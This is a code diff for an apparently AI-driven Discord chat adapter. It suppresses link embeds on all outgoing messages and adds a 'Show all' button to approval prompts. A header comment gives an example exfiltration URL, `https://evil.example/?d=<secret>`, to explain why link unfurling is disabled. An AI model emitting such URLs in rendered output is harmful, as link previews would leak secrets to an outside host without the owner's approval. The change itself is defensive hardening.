@@ -8,8 +8,10 @@
  * - `ix:<applicationId>:<token>`: the reply of a slash command or button interaction. The first send
  *   fills the deferred original response, later sends are follow-ups; the token lives 15 minutes.
  *
- * Invariant: every message body carries `allowed_mentions: { parse: [] }`, so `@everyone`, `@here`,
- * role and user mentions in model output are shown but never ping anyone.
+ * Invariants: every message body carries `allowed_mentions: { parse: [] }`, so `@everyone`, `@here`,
+ * role and user mentions in model output are shown but never ping anyone; and the SuppressEmbeds flag
+ * (sends, edits, interaction replies, uploads), so no URL in a question, refusal or reply unfurls:
+ * Discord's servers would fetch `https://evil.example/?d=<secret>` before the owner said anything.
  */
 import { DiscordAPIError, HTTPError, Routes, type REST } from "discord.js";
 import { ChannelError, type OutboundFile, type OutboundFileKind } from "../channel.js";
@@ -22,6 +24,8 @@ export const DISCORD_MAX_LENGTH = 2000;
 export const DISCORD_FILE_LIMIT = 10 * 1024 * 1024;
 /** Message flag that suppresses push notifications (`@silent`). */
 const SUPPRESS_NOTIFICATIONS = 1 << 12;
+/** Message flag that keeps Discord from fetching and embedding the links of a message. */
+export const SUPPRESS_EMBEDS = 1 << 2;
 /** Interaction tokens are valid for 15 minutes. */
 const INTERACTION_TTL_MS = 15 * 60 * 1000;
 
@@ -51,7 +55,11 @@ export function toChannelError(err: unknown, what: string): ChannelError {
 }
 
 /** Approve/deny buttons; the custom ids come back as INTERACTION_CREATE (`approve:<id>`). */
-export function approvalComponents(approvalId: string, choices: readonly string[] = []): unknown[] {
+export function approvalComponents(
+  approvalId: string,
+  choices: readonly string[] = [],
+  showAll = false,
+): unknown[] {
   return [
     {
       type: 1,
@@ -65,6 +73,8 @@ export function approvalComponents(approvalId: string, choices: readonly string[
           label: c === "host" ? "Yes for this host" : "Yes for this session",
           custom_id: `approve:${approvalId}:${c}`,
         })),
+        // A cut question: the press sends the whole text to the owner's DM (`show:<id>`).
+        ...(showAll ? [{ type: 2, style: 2, label: "Show all", custom_id: `show:${approvalId}` }] : []),
       ],
     },
   ];
@@ -110,8 +120,11 @@ export class DiscordAdapter implements ChatAdapter {
     return {
       content: text,
       allowed_mentions: NO_MENTIONS,
-      ...(opts.approvalId ? { components: approvalComponents(opts.approvalId, opts.approvalChoices) } : {}),
-      ...(opts.silent ? { flags: SUPPRESS_NOTIFICATIONS } : {}),
+      // A message without an approval carries no buttons: an edit that closes a question drops them.
+      components: opts.approvalId
+        ? approvalComponents(opts.approvalId, opts.approvalChoices, opts.approvalShowAll)
+        : [],
+      flags: SUPPRESS_EMBEDS | (opts.silent ? SUPPRESS_NOTIFICATIONS : 0),
     };
   }
 
@@ -122,8 +135,8 @@ export class DiscordAdapter implements ChatAdapter {
         const state = this.interactions.get(addr);
         if (state?.originalPending) {
           state.originalPending = false;
-          const body = this.body(text, opts);
-          delete body.flags;
+          // An edit takes SuppressEmbeds only (not the notification flag).
+          const body = { ...this.body(text, opts), flags: SUPPRESS_EMBEDS };
           await this.rest().patch(Routes.webhookMessage(ix.app, ix.token, "@original"), {
             body,
             auth: false,
@@ -147,8 +160,7 @@ export class DiscordAdapter implements ChatAdapter {
 
   async edit(addr: string, messageId: string, text: string, opts: OutboundOptions): Promise<void> {
     const ix = parseInteraction(addr);
-    const body = this.body(text, opts);
-    delete body.flags;
+    const body = { ...this.body(text, opts), flags: SUPPRESS_EMBEDS };
     try {
       if (ix)
         await this.rest().patch(Routes.webhookMessage(ix.app, ix.token, messageId), { body, auth: false });
@@ -193,6 +205,7 @@ export class DiscordAdapter implements ChatAdapter {
     const body = {
       content: chunks[0] ?? "",
       allowed_mentions: NO_MENTIONS,
+      flags: SUPPRESS_EMBEDS,
       attachments: [{ id: 0, filename: file.name }],
     };
     const files = [{ name: file.name, data: file.data, ...(file.mime ? { contentType: file.mime } : {}) }];
